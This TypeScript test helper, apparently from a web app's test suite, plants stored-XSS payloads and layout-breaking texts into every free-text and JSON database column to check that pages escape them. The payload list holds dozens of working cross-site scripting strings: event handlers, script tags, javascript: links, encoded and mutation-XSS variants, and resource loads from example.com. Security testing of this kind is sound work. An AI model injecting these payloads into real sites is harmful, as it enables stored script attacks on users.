import { type RawBuilder, sql } from 'kysely'
import { openDatabase } from '#server/platform/database/open-database.ts'
import type { Database } from '#server/platform/database/tables.ts'

/** Set by a payload that runs. */
export const canary = 'quarterdeckCanary'

const run = `window.${canary}=1`

/** Texts that run code, load something from elsewhere or hide what they are, if anything but text is made of them. */
const payloads = [
  // Elements that run code by themselves.
  `<img src=x onerror="${run}">`,
  `<script>${run}</script>`,
  `<script src=//example.com/${canary}.js></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${run}>`,
  `<svg><foreignObject><iframe onload=${run}></iframe></foreignObject></svg>`,
  `<body onload=${run}>`,
  `<iframe srcdoc="<script>parent.${canary}=1</script>">`,
  `<iframe src="javascript:parent.${canary}=1">`,
  `<object data="data:text/html,<script>${run}</script>">`,
  `<embed src="javascript:${run}">`,
  `<video><source onerror="${run}">`,
  `<video poster="javascript:${run}" autoplay onplay=${run}>`,
  `<audio src=x onerror=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<marquee onstart=${run}>`,
  `<meter onmouseover=${run}>0</meter>`,
  `<keygen autofocus onfocus=${run}>`,
  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${run}>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${run}>`,
  // Ways out of the place that a text stands in.
  `"><svg/onload=${run}>`,
  `'><img src=x onerror=${run}>`,
  `" onmouseover="${run}" x="`,
  `' autofocus onfocus='${run}' x='`,
  `\` onerror=${run} \``,
  `</style></script><script>${run}</script>`,
  `</title><img src=x onerror=${run}>`,
  `</textarea><img src=x onerror=${run}>`,
  `</noscript><img src=x onerror=${run}>`,
  `--><img src=x onerror=${run}><!--`,
  `]]><img src=x onerror=${run}>`,
  `'];${run};//`,
  `";${run};//`,
  `\\";${run};//`,
  `</script/><script/${canary}>${run}</script>`,
  // Texts that become others when they are read twice.
  `&lt;img src=x onerror=${run}&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `＜script＞${run}＜/script＞`,
  `{{constructor.constructor("${run}")()}}\${${run}}<math><mtext></table><mglyph><style><img src=x onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<template><img src=x onerror=${run}></template>`,
  // Links, and what loads from elsewhere.
  `javascript:${run}//https://example.com/`,
  `<a href="java\tscript:${run}">x</a>`,
  `<base href="//example.com/"><link rel=stylesheet href=//example.com/${canary}.css>`,
  `<style>@import "//example.com/${canary}.css"</style><link rel=stylesheet href=//example.com/y.css>`,
  `<meta http-equiv=refresh content="0;url=//example.com/${canary}">`,
  `<img srcset="//example.com/${canary}.png 1x"><b style="background:url(//example.com/${canary})">`,
  `<form action="//example.com/${canary}"><input type=submit autofocus>`,
  `[${canary}](javascript:${run}) ![x](//example.com/${canary}.png)`,
  // Texts that hide what they are.
  `\u202e<a href="javascript:${run}" autofocus onfocus="${run}">\u200b`,
  `__proto__ constructor ${canary} \ufeff\u2028\u2029<img src=x onerror=${run}>`,
]

/** Texts that break a layout that trusts the length, the height or the direction of what it shows. */
const bulkyTexts = [
  'W'.repeat(10_000),
  `e${'\u0301\u0323'.repeat(250)}`,
  // The second word with a control that turns all that follows it.
  'שלום עולם \u202eمرحبا بالعالم',
  '漢'.repeat(80),
]

/** Of https links and of those that must not become links. */
const links = [
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  '//example.com/a.png',
  'https://example.com/b.png',
  `https://example.com/${'w'.repeat(2_000)}`,
]

/** Columns that the server itself compares: kinds, states, rules, keys of rows, secrets, and how the tests sign in. */
const compared =
  /^(kind|target|state|status|outcome|action|target_kind|writer_kind|method|day|version|list|audience|search_params|channel|conditions|email|email_folded|password_hash|request_id|msg_id|job_id|rule|.*_hash|.*key|fingerprint)$/

/** Of the item IDs of gifts, the shortest limit of a string in stored JSON. */
const maxJsonTextLength = 200

type Column = { table_name: string; column_name: string; data_type: string }

/** The columns of free text and of JSON, without those that refer to another table's rows or are referred to. */
async function listColumns(db: Database): Promise<readonly Column[]> {
  const { rows } = await sql<Column>`
    select c.relname as table_name, a.attname as column_name, a.atttypid::regtype::text as data_type
    from pg_class c
    join pg_attribute a on a.attrelid = c.oid and a.attnum > 0 and not a.attisdropped and a.attgenerated = ''
    where c.relnamespace = 'public'::regnamespace and c.relkind in ('r', 'p') and not c.relispartition
      and a.atttypid::regtype::text in ('text', 'jsonb', 'json')
      and c.relname not in ('permissions', 'sessions', 'idempotency_keys', 'password_links')
      and not exists (
        select from pg_constraint k
        where k.contype = 'f'
          and (k.conrelid = c.oid and a.attnum = any(k.conkey) or k.confrelid = c.oid and a.attnum = any(k.confkey)))`.execute(
    db,
  )
  return rows.filter(({ column_name }) => !compared.test(column_name) && !column_name.startsWith('pgmigrations'))
}

/** Whether a page shows one of the bulky texts, as far as it is shown at all. */
export const showsBulkyText = (text: string): boolean => bulkyTexts.some((bulky) => text.includes(bulky.slice(0, 9)))

/**
 * Replaces every stored text of a stopped server's embedded database by hostile ones, straight in the tables, so that
 * also what the API refuses is there.
 */
export async function plantHostileTexts(dataDir: string): Promise<void> {
  const database = await openDatabase({ dataDir, statementTimeoutMs: 60_000 })
  try {
    await database.asOwner(async ({ db }) => {
      for (const column of await listColumns(db)) {
        // A column that limits the length takes those that are not too long.
        const isPlanted = await plant(db, column, bulkyTexts)
        if (!isPlanted) await plant(db, column, [])
      }
    })
  } finally {
    await database.close()
  }
}

/**
 * Fills one column: every text runs code, four of five are bulky before that. False where a constraint refuses: the
 * server cannot have stored such a text either.
 */
async function plant(
  db: Database,
  { table_name, column_name, data_type }: Column,
  bulky: readonly string[],
): Promise<boolean> {
  const column = sql.ref(column_name)
  const hasLinks = /link|url/.test(column_name)
  // The contract limits a player's id to 64 letters and digits: its layout is not asked for more, its safety is.
  const isShort = hasLinks || column_name === 'player_id'
  const beginnings = isShort ? [''] : ['', ...bulky.map((text) => `${text} `)]
  // Different in every row, for columns that are unique, and in the columns of one row.
  const number = sql`abs(hashtext(ctid::text || ${column_name}::text))`
  const pick = (texts: readonly string[], index: RawBuilder<unknown>) =>
    sql`(array[${sql.join(texts)}]::text[])[1 + ${index} % ${texts.length}::int]`
  const beginning = pick(beginnings, number)
  const payload = pick(hasLinks ? links : payloads, sql`(${number} / ${beginnings.length}::int)`)
  const text = sql`(${beginning} || ${payload} || ' ' || ctid::text)`
  const holdsJson = sql<boolean>`left(ltrim(${column}::text), 1) in ('{', '[')`
  // The values of strings alone: numbers and the structure stay as the server reads them, which accepts no longer item
  // ID. A backslash is doubled, because it has a meaning of its own in a replacement.
  const inJson = sql`left(left(${beginning}, ${maxJsonTextLength - 90}::int) || ${payload} || ' ' || ctid::text, ${maxJsonTextLength}::int)`
  const replacement = sql`'": ' || replace(to_json(${inJson})::text, '\\', '\\\\')`
  const json = sql`regexp_replace(${column}::text, ${'":\\s*"(?:[^"\\\\]|\\\\.)*"'}, ${replacement}, 'g')`
  const value =
    data_type === 'text'
      ? sql`case when ${holdsJson} then ${json} else ${text} end`
      : sql`${json}::${sql.raw(data_type)}`
  try {
    await sql`update ${sql.table(table_name)} set ${column} = ${value} where ${column} is not null`.execute(db)
    return true
  } catch {
    return false
  }
}
